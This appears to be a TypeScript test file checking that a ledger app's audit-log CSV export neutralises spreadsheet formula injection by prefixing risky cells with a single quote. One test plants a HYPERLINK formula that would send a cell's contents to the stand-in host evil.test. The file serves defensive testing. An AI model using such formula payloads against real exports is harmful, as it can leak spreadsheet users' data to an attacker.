import { csvField } from '@app/projections';
import request from 'supertest';
import { parseCsv } from '../audit/csv';
import { LedgerApp, startLedgerApp } from '../support/ledger-app';

const text = (res: request.Response, done: (error: Error | null, body: string) => void) => {
  let body = '';
  res.setEncoding('utf8');
  res.on('data', (chunk: string) => (body += chunk));
  res.on('end', () => done(null, body));
};

describe('CSV export neutralises formulas (OWASP CSV injection)', () => {
  let ledger: LedgerApp;
  afterAll(() => ledger?.close());

  it('an actor name starting with = is exported with a leading single quote', async () => {
    ledger = await startLedgerApp();
    const formula = '=HYPERLINK("http://evil.test/?"&A1,"click")';
    await ledger
      .as('global-admin', { actor: 'mallory', name: formula })
      .post('/v1/subscriptions', { skuId: 'E3', name: '+E3', servicePlans: ['EXCHANGE'], seats: 1 })
      .expect(201);
    const csv = await ledger
      .as('auditor')
      .get('/v1/audit/events?actor=mallory')
      .set('Accept', 'text/csv')
      .buffer(true)
      .parse(text)
      .expect(200);
    const [header, row] = parseCsv(csv.body as string);
    expect(row[header.indexOf('actorName')]).toBe(`'${formula}`);
    // JSON text starts with "{", so data stays machine-readable even when a value inside starts with "+".
    expect(JSON.parse(row[header.indexOf('data')])).toMatchObject({ name: '+E3' });
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])('neutralises %j', (cell) => {
    expect(csvField(cell)).toMatch(/^"?'/);
  });

  it('leaves other cells and numbers as they are', () => {
    expect(csvField('alice')).toBe('alice');
    expect(csvField(-1)).toBe('-1');
  });
});
